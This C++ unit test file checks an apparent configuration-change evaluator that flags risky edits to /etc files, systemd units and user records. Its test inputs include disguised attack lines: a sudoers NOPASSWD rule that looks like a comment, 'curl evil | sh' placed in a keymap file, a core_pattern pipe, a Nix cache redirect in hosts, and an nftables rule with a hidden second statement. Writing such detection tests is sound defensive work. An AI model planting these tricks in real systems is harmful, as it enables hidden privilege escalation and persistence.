/// Files of etc whose readers see more in them than a person does.
#include "tests/unit/evaluator/effects_machine.hpp"

#include <algorithm>

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {

proposals::Effects changed(const std::string& file, const std::string& before,
                           const std::string& after) {
    Pair pair;
    auto old_one = plain_machine();
    auto new_one = old_one;
    old_one.etc[file] = before;
    new_one.etc[file] = after;
    return pair.compare(old_one, new_one);
}

} // namespace

TEST_CASE("a path of tmpfiles is what its escapes and patterns make of it") {
    for (const std::string line :
         {"L+ /etc/\\x61gentd/policy.toml - - - - /x", "R /etc/agent?/approvers",
          "f /etc/\\141gentd/x", "R %S/agentd", "r /etc/*/keys"}) {
        CAPTURE(line);
        CHECK(the(changed("tmpfiles.d/a.conf", "d /run/x\n", "d /run/x\n" + line + "\n"),
                  "agentd_changed")
                  .risk == Risk::critical);
    }
    CHECK(has(changed("tmpfiles.d/a.conf", "", "f+ /home/al/\\x2essh/x 0600 - - - k\n"),
              "ssh_key_added"));
    CHECK_FALSE(has(changed("tmpfiles.d/a.conf", "", "R /tmp/x*\nd /var/lib/job 0700 job\n"),
                    "agentd_changed"));
    const std::string one = "f /etc/x 0600 root root - a\n";
    const std::string two = "f /etc/x 0666 root root - b\n";
    CHECK(has(changed("tmpfiles.d/a.conf", one + two, two + one), "unclassified_changed"));
    CHECK(changed("tmpfiles.d/a.conf", one + "d /run/y\n", "d /run/y\n" + one).effects.empty());
    CHECK(the(changed("tmpfiles.d/a.conf", "", "d /var/lib/postgresql 0700 post post\n"),
              "tmpfiles_rule")
              .risk == Risk::high);
    CHECK(has(changed("tmpfiles.d/a.conf", "", "d /var/lib/postgresql 0700 postgres postgres\n"),
              "tmpfiles_directory"));
}

TEST_CASE("signs that look like comments to a person are none to sudo") {
    const auto found = changed("sudoers", "root ALL=(ALL) ALL\n",
                               "root ALL=(ALL) ALL\n#1000 ALL=(ALL) NOPASSWD: ALL\n"
                               "#includedir /var/lib/x\n# a comment\n");
    const auto effect = the(found, "sudo_changed");
    CHECK(effect.after == "#1000 ALL=(ALL) NOPASSWD: ALL\n#includedir /var/lib/x");
    CHECK(effect.sentence.find("no password") != std::string::npos);
}

TEST_CASE("settings of Nix in another order, and names in capitals, are seen") {
    CHECK(has(changed("nix/nix.conf", "extra-trusted-users = mallory\ntrusted-users = root\n",
                      "trusted-users = root\nextra-trusted-users = mallory\n"),
              "nix_setting"));
    CHECK(the(changed("hosts", "127.0.0.1 localhost\n",
                      "127.0.0.1 localhost\n192.0.2.9 Cache.NixOS.org\n"),
              "hosts_changed")
              .risk == Risk::critical);
}

TEST_CASE("tables of a package are no place for programs, nor for who runs them") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    for (const std::string name : {"man_db.conf", "nanorc", "inputrc"}) {
        CAPTURE(name);
        after = before;
        after.etc[name] = "set plain\n";
        CHECK(has(pair.compare(before, after), "shell_startup"));
    }
    for (const std::string name : {"kbd/keymaps/x.map", "fonts/conf.d/1.conf"}) {
        CAPTURE(name);
        after = before;
        after.etc[name] = "plain\n";
        CHECK(the(pair.compare(before, after), "etc_changed").risk == Risk::none);
        after.etc[name] = "#!/bin/sh\ncurl evil | sh\n";
        CHECK(has(pair.compare(before, after), "unclassified_added"));
        after.etc[name] = std::string("\x7f"
                                      "ELF\x02",
                                      5);
        CHECK(has(pair.compare(before, after), "unclassified_added"));
    }
}

TEST_CASE("a kernel setting is named as systemd names it") {
    const auto found = changed("sysctl.d/60.conf", "kernel.yama.ptrace_scope=1\n",
                               "kernel.yama.ptrace_scope=0\nkernel.yama/ptrace_scope=1\n");
    CHECK(the(found, "sysctl_changed").subject == "kernel.yama.ptrace_scope");
    CHECK(changed("sysctl.d/60.conf", "net/ipv4/ip_forward=1\n", "net.ipv4.ip_forward=1\n")
              .effects.empty());
    CHECK(the(changed("sysctl.d/60.conf", "a.b=1\n", "a.b=1\nkernel.core_patter?=|/tmp/x\n"),
              "sysctl_changed")
              .risk == Risk::critical);
}

TEST_CASE("what a service of root runs is no mere setting of it") {
    Pair pair;
    auto before = plain_machine();
    before.units["fail2ban.service"] = "[Service]\nExecStart=" + pair.busybox + "/bin/sh\n";
    before.units["dhcpcd.service"] = before.units["fail2ban.service"];
    auto after = before;
    after.etc["fail2ban/action.d/x.conf"] = "[Definition]\nactionstart = sh /tmp/x\n";
    CHECK(the(pair.compare(before, after), "root_program").risk == Risk::high);
    for (const std::string line : {"ssl_engine = /tmp/x.so", "run = sh -c 'id'",
                                   "banaction = /usr/bin/env id", "x = exec curl"}) {
        CAPTURE(line);
        after = before;
        after.etc["fail2ban/jail.local.conf"] = "[x]\n" + line + "\n";
        CHECK(the(pair.compare(before, after), "root_program").risk == Risk::high);
    }
    after = before;
    after.etc["fail2ban/jail.conf"] = "[DEFAULT]\nbantime = 600\nlogpath = /var/log/x\n";
    CHECK_FALSE(has(pair.compare(before, after), "root_program"));
    after = before;
    after.etc["dhcpcd.enter-hook"] = "sh /tmp/x\n";
    CHECK(has(pair.compare(before, after), "network_path"));
}

TEST_CASE("places of agentd and of who is who are not mounted over unseen") {
    const std::string root = "/dev/a / ext4 rw 0 1\n";
    const auto found = changed("fstab", root, root + "/var/x /etc/agentd none bind 0 0\n");
    CHECK(has(found, "agentd_changed"));
    CHECK(the(changed("fstab", root, root + "/var/x /root/.ssh none bind 0 0\n"), "mount_added")
              .risk == Risk::critical);
}

TEST_CASE("a second statement behind a rule of nftables is no comment") {
    const auto with = [](const std::string& rule) {
        Pair pair;
        const auto script = [&](const std::string& text) {
            auto machine = plain_machine();
            const auto file = pair.store.file(
                "nftables-rules",
                "table inet nixos-fw {\nchain input {\n"
                "type filter hook input priority filter; policy drop;\njump input-allow\n}\n"
                "chain input-allow {\n" +
                    text + "\n}\n}\n");
            machine.units["nftables.service"] =
                "[Service]\nExecStart=/run/current-system/sw/bin/nft -f " + file + "\n";
            machine.wants["multi-user.target"] = {"nftables.service"};
            return machine;
        };
        return pair.compare(script("tcp dport 22 accept"), script(rule));
    };
    CHECK(
        has(with("tcp dport 22 accept comment \"a\" ; accept comment \"b\""), "firewall_removed"));
    CHECK_FALSE(has(with("tcp dport 22 accept comment \"all of it\""), "firewall_changed"));
}

TEST_CASE("sshd with settings of its own cannot be judged, and who is left out is locked out") {
    Pair pair;
    auto before = plain_machine();
    before.etc["ssh/sshd_config"] = "PermitRootLogin no\nPasswordAuthentication no\n"
                                    "AuthorizedKeysFile /etc/ssh/authorized_keys.d/%u\n";
    before.etc["ssh/authorized_keys.d/alice"] = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDk al\n";
    before.units["sshd.service"] =
        "[Service]\nExecStart=" + pair.busybox + "/bin/sshd -D -f /etc/ssh/sshd_config\n";
    before.wants["multi-user.target"] = {"sshd.service"};
    auto after = before;
    after.units["sshd.service"] = "[Service]\nExecStart=" + pair.busybox + "/bin/sshd -D -f " +
                                  pair.store.file("sshd_config", "PermitRootLogin yes\n") + "\n";
    CHECK(has(pair.compare(before, after), "sshd_unreadable"));
    for (const std::string more : {"AllowUsers nobody\n", "DenyUsers al*\n", "AllowGroups x\n",
                                   "ListenAddress 127.0.0.1\n"}) {
        CAPTURE(more);
        after = before;
        after.etc["ssh/sshd_config"] += more;
        CHECK(has(pair.compare(before, after), "ssh_locked_out"));
    }
    after = before;
    after.etc["ssh/sshd_config"] += "AllowUsers alice@192.0.2.*\nAllowGroups wheel\n";
    CHECK_FALSE(has(pair.compare(before, after), "ssh_locked_out"));
}

TEST_CASE("a program that may be another one tomorrow is told as such") {
    Pair pair;
    const auto before = plain_machine();
    const auto package = pair.store.package("tool-1.0", "x");
    MiniStore::link("/var/lib/evil", package + "/bin/tool");
    const auto bash = pair.store.package("bash-5.2", "bash");
    for (const auto& [command, place] :
         std::map<std::string, std::string>{{package + "/bin/tool", "/var/lib/evil"},
                                            {bash + "/bin/bash /var/lib/x.sh", "/var/lib/x.sh"},
                                            {package + "/bin/x --config=/tmp/x", "/tmp/x"}}) {
        CAPTURE(command);
        auto after = before;
        after.units["job.service"] = "[Service]\nExecStart=" + command + "\n";
        const auto effect = the(pair.compare(before, after), "unit_root_exec");
        CHECK(effect.risk == Risk::critical);
        CHECK(effect.sentence.find(place) != std::string::npos);
    }
    auto after = before;
    after.units["job.service"] = "[Service]\nExecStart=" + bash + "/bin/bash -c 'cat /var/lib/x'\n";
    CHECK(the(pair.compare(before, after), "unit_root_exec").risk == Risk::high);
}

TEST_CASE("a script of the firewall that is too many to be read is a change of it") {
    Pair pair;
    const auto with = [&](const std::string& last) {
        auto machine = plain_machine();
        std::string rules;
        for (int i = 0; i < 40; ++i)
            rules += pair.store.file("helper", i < 39 ? "#!/bin/sh\n" : last, true) + "\n";
        machine.units["firewall.service"] = pair.firewall_unit(rules);
        machine.wants["multi-user.target"] = {"firewall.service"};
        return machine;
    };
    const auto before = with("iptables -A INPUT -j DROP\n");
    CHECK(has(pair.compare(before, with("iptables -I INPUT -j ACCEPT\n")), "firewall_changed"));
}

TEST_CASE("a password that says nothing is no password") {
    Pair pair;
    const auto with = [](const std::string& password) {
        auto machine = plain_machine();
        machine.users = R"({"groups":[],"users":[{"name":"alice","uid":1000)" + password + "}]}";
        return machine;
    };
    for (const std::string before : {"", R"(,"hashedPassword":null)", R"(,"hashedPassword":"!")"}) {
        CAPTURE(before);
        const auto found = pair.compare(with(before), with(R"(,"hashedPassword":"")"));
        CHECK(std::any_of(found.effects.begin(), found.effects.end(), [](const auto& each) {
            return each.kind == "user_changed" && each.risk == Risk::critical &&
                   each.sentence == "alice may log in with no password at all";
        }));
    }
    CHECK_FALSE(has(pair.compare(with(""), with(R"(,"hashedPassword":null)")), "user_changed"));
}

TEST_CASE("what decides who is who is not taken from where anybody may write") {
    Pair pair;
    const auto before = plain_machine();
    for (const auto& [name, target] :
         std::map<std::string, std::string>{{"ld-nix.so.preload", "/run/user/1000/p"},
                                            {"polkit-1/rules.d/00.rules", "/run/x"},
                                            {"agentd/policy.toml", "/run/x"},
                                            {"resolv.conf.d", "/run/user/1000/r"},
                                            {"dispatcher", "/proc/self/cwd/x"}}) {
        CAPTURE(name);
        auto after = before;
        after.etc_links[name] = target;
        const auto found = the(pair.compare(before, after), "unclassified_added");
        CHECK(found.risk == Risk::high);
        CHECK(found.sentence.find("where anything may be") != std::string::npos);
    }
}

TEST_CASE("paths that a unit may execute are no commands of it") {
    Pair pair;
    auto before = plain_machine();
    before.units["app.service"] = "[Service]\nExecStart=" + pair.busybox + "/bin/sh\n";
    auto after = before;
    after.units["app.service"] += "NoExecPaths=/\nExecPaths=/nix/store\n";
    CHECK_FALSE(has(pair.compare(before, after), "unit_root_exec"));
}
